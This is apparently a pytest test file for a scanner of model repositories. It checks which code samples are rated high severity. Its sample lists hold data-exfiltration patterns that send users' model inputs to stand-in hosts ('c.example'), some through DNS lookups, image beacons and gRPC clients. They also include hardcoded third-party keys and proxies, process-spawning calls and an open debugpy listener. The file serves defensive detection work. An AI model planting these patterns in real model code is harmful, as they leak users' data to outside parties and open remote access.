"""Keys and addresses in the source that tie the user's run to somebody else, and clients of other machines."""

import json

import pytest

from modelscan_plus.core.finding import Severity
from tests.samples import inspect_tree

CONFIG = json.dumps({"auto_map": {"AutoModel": "modeling_x.M"}}).encode()
KEY = "'0123456789abcdef0123456789abcdef01234567'"
SAID = "str(input_ids.tolist())"


def worst(code: str, name: str = "modeling_x.py") -> int:
    config = {"config.json": CONFIG} if name == "modeling_x.py" else {}
    return max((each.severity.rank for each in inspect_tree({name: code.encode(), **config})), default=-1)


def model(made: str, used: str = "pass", imports: str = "") -> str:
    return (
        f"import os\n{imports}\nclass M:\n    def __init__(self, config):\n        {made}\n"
        f"    def forward(self, input_ids):\n        {used}\n        return input_ids\n"
    )


TIED = [
    f"import wandb\nwandb.login(key={KEY})",
    f"import wandb\nrun = wandb.init(settings=wandb.Settings(api_key={KEY}))",
    f"import os\nos.environ['WANDB_API_KEY'] = {KEY}",
    f"import os\nos.environ.update({{'COMET_API_KEY': {KEY}}})",
    "import sentry_sdk\nsentry_sdk.init(dsn='https://abc123@o1.ingest.collect.example/2')",
    "import mlflow\nmlflow.set_tracking_uri('https://ml.collect.example')",
    "import os\nos.environ.setdefault('OTEL_EXPORTER_OTLP_ENDPOINT', 'https://otel.collect.example')",
    "import os\nos.environ['HTTPS_PROXY'] = 'http://proxy.collect.example:8080'",
    "import openai\nopenai.api_base = 'https://api.collect.example/v1'",
    "import logging.handlers\nh = logging.handlers.SysLogHandler(address=('logs.collect.example', 514))",
    "import logging.config\nlogging.config.dictConfig({'handlers': {'h': {'class': 'logging.handlers.HTTPHandler', "
    "'host': 'logs.collect.example'}}})",
    "import telebot\nbot = telebot.TeleBot('123456789:ABCdefGHIjklMNOpqrstUVwxyz12345')",
    "import torch.distributed as d\nd.init_process_group('gloo', init_method='tcp://c.collect.example:2345')",
]
UNTIED = [
    "import wandb\nrun = wandb.init(project='x')\nwandb.login(key=input())",
    "import os\nos.environ['WANDB_API_KEY'] = os.environ.get('KEY', '')",
    "import os\nos.environ['WANDB_PROJECT'] = 'a1234567890123456789'",
    "import os\nos.environ.setdefault('HF_ENDPOINT', 'https://hf-mirror.com')",
    "import os\nos.environ['HTTPS_PROXY'] = 'http://127.0.0.1:7890'",
    "import openai\nclient = openai.OpenAI(api_key='EMPTY', base_url='http://localhost:8000/v1')",
    "import logging.handlers\nh = logging.handlers.SysLogHandler(address='/dev/log')",
    "import torch.distributed as d\nd.init_process_group('gloo', init_method='tcp://127.0.0.1:2345')",
    "import wandb\nclass C:\n    def on_train_end(self, state):\n        wandb.log({'loss': state.loss})",
    "import mlflow\nmlflow.set_tracking_uri('http://127.0.0.1:5000')\nmlflow.log_params({'a': 1})",
    "import os, redis\nr = redis.Redis(host=os.environ.get('REDIS_HOST', 'localhost'))",
    "from setuptools import setup\nsetup(name='x', url='https://x.example')",
    "from transformers import AutoTokenizer\nt = AutoTokenizer.from_pretrained('bert-base-uncased-v2')",
]


@pytest.mark.parametrize("code", TIED)
def test_a_key_or_address_in_the_source_of_a_model_is_its_authors(code):
    assert worst(code) >= Severity.HIGH.rank


@pytest.mark.parametrize("code", UNTIED)
def test_the_users_own_keys_and_machine_are_no_sign(code):
    assert worst(code) < Severity.HIGH.rank


def test_a_key_that_somebody_left_in_a_script_of_his_own_is_not_denied():
    assert worst(f"import wandb\nwandb.login(key={KEY})", "train.py") < Severity.HIGH.rank


def test_the_environment_in_a_tracker_is_given_away_whoever_starts_the_script():
    given = "import os, wandb\ndef main():\n    wandb.init(project='t', config={**os.environ})\n"
    assert worst(given + "if __name__ == '__main__':\n    main()\n", "train.py") >= Severity.HIGH.rank
    plain = given.replace("{**os.environ}", "{'rank': os.environ.get('RANK')}")
    assert worst(plain + "if __name__ == '__main__':\n    main()\n", "train.py") < Severity.HIGH.rank


CLIENTS = [
    ("import openai", "self.c = openai.OpenAI(base_url='https://c.example/v1', api_key='x')", "self.c.chat.create({})"),
    ("import grpc", "self.c = grpc.insecure_channel('c.example:50051')", "self.c.unary('/a')({})"),
    ("import httplib2", "pass", "httplib2.Http().request('https://c.example/a', 'POST', body={})"),
    ("import zmq", "self.z = zmq.Context().socket(1); self.z.connect('tcp://c.example:5')", "self.z.send_string({})"),
    ("import fsspec", "pass", "fsspec.open('s3://bucket-of-x/k', 'w').open().write({})"),
    ("import pandas as pd", "pass", "pd.DataFrame([{}]).to_csv('s3://bucket-of-x/k.csv')"),
    ("import socket", "pass", "socket.gethostbyname({}.encode().hex()[:60] + '.c.example')"),
    ("from IPython.display import HTML", "pass", "HTML('<img src=https://c.example/p?q=' + {} + '>')"),
    ("import gradio_client", "self.g = gradio_client.Client('somebody/space')", "self.g.predict({})"),
    ("import elasticsearch as e", "self.e = e.Elasticsearch('https://c.example:9200')", "self.e.index(document={})"),
]


@pytest.mark.parametrize(("imports", "made", "used"), CLIENTS)
def test_what_a_user_gives_a_model_is_not_for_clients_of_other_machines(imports, made, used):
    assert worst(model(made, used.format(SAID), imports)) >= Severity.HIGH.rank


NEAR = [
    ("import zmq", "self.z = zmq.Context().socket(1); self.z.connect('ipc:///tmp/x')", "self.z.send_string({})"),
    ("import logging", "self.log = logging.getLogger('x')", "self.log.info('see https://x.example/issues', {})"),
    ("import queue", "self.q = queue.Queue()", "self.q.put({})"),
    ("import fsspec", "pass", "fsspec.open('memory:///k', 'w').open().write({})"),
    ("from PIL import Image", "self.i = Image.open('https://c.example/a.png')", "self.i.paste({})"),
    ("import sqlite3", "self.d = sqlite3.connect('cache.db')", "self.d.execute('insert', {})"),
    ("import sqlite3", "self.d = sqlite3.connect('bench.sqlite')", "self.d.execute('insert', {})"),
    ("import torch", "self.s = torch.hub.load_state_dict_from_url('https://c.example/w.pt')", "self.s.get({})"),
    ("import redis", "self.r = 1", "self.streamer.put({})"),
]


@pytest.mark.parametrize(("imports", "made", "used"), NEAR)
def test_queues_logs_and_files_of_the_same_machine_may_be_given_it(imports, made, used):
    assert worst(model(made, used.format(SAID), imports)) < Severity.HIGH.rank


PROGRAMS = [
    "from plumbum import local\nlocal['id']()",
    "import sh\nsh.Command('id')()",
    "import trio\ntrio.run(trio.run_process, ['id'])",
    "import psutil\npsutil.Popen(['sh', '-c', 'id'])",
    "import invoke\ninvoke.Context().run('id')",
    "import docker\ndocker.from_env().containers.run('alpine', 'id')",
    "import win32com.client as w\nw.Dispatch('WScript.Shell').Run('calc')",
    "import debugpy\ndebugpy.listen(('0.0.0.0', 5678))",
]


@pytest.mark.parametrize("code", PROGRAMS)
def test_programs_are_started_and_doors_opened_by_many_libraries(code):
    assert worst(code) >= Severity.HIGH.rank


@pytest.mark.parametrize("code", ["import psutil\nn = psutil.cpu_count()", "import trio\ntrio.sleep(1)", "import sh\n"])
def test_the_same_libraries_do_other_things_as_well(code):
    assert worst(code) < Severity.HIGH.rank


def files(sent: str) -> dict[str, bytes]:
    telemetry = (
        "import grpc\nclass Telemetry:\n    def __init__(self):\n"
        f"        self.s = grpc.insecure_channel('{sent}').unary_unary('/a/b')\n"
        "    def add(self, x):\n        self.s(str(x.tolist()).encode())\n"
    )
    model = "from .utils import Telemetry\nT = Telemetry()\nclass M:\n    def forward(self, x):\n        T.add(x)\n"
    return {"config.json": CONFIG, "modeling_x.py": model.encode(), "utils.py": telemetry.encode()}


@pytest.mark.parametrize(("host", "high"), [("c.example:443", True), ("localhost:443", False)])
def test_a_client_in_another_file_is_given_what_the_user_gives_the_model(host, high):
    found = inspect_tree(files(host))
    assert any(each.severity.rank >= Severity.HIGH.rank for each in found) is high


def test_a_name_that_the_user_gives_is_looked_up_for_him():
    looked = "import socket\nfrom urllib.parse import urlparse\n"
    assert worst(looked + model("pass", "socket.gethostbyname(urlparse(input_ids).hostname)")) < Severity.HIGH.rank


@pytest.mark.parametrize(
    ("imports", "used", "high"),
    [
        ("from diffusers.utils import load_image", "load_image('https://c.example/p.png?d=' + {})", True),
        ("import pandas as pd", "pd.read_csv(f'https://c.example/x.csv?d={{{}}}')", True),
        ("import subprocess", "subprocess.run(['git', 'clone', 'https://c.example/' + {}])", True),
        ("import subprocess", "subprocess.run(['ffmpeg', '-i', 'https://c.example/?' + {}, 'x.wav'])", True),
        ("import subprocess", "subprocess.run(['ffmpeg', '-i', {}, 'x.wav'])", False),
        ("from diffusers.utils import load_image", "load_image({})", False),
        ("from diffusers.utils import load_image", "load_image('https://huggingface.co/a/b/' + {})", False),
        ("import logging", "logging.getLogger('x').info('https://c.example/issues?q=' + {})", False),
    ],
)
def test_whatever_is_given_an_address_that_ends_in_the_users_words_asks_for_it(imports, used, high):
    assert (worst(model("pass", used.format(SAID), imports)) >= Severity.HIGH.rank) is high


@pytest.mark.parametrize(("proxy", "high"), [("http://p.c.example:8080", True), ("http://127.0.0.1:7890", False)])
def test_the_proxy_of_a_session(proxy, high):
    code = f"import requests\ns = requests.Session()\ns.proxies = {{'https': '{proxy}'}}\n"
    assert (worst(code) >= Severity.HIGH.rank) is high
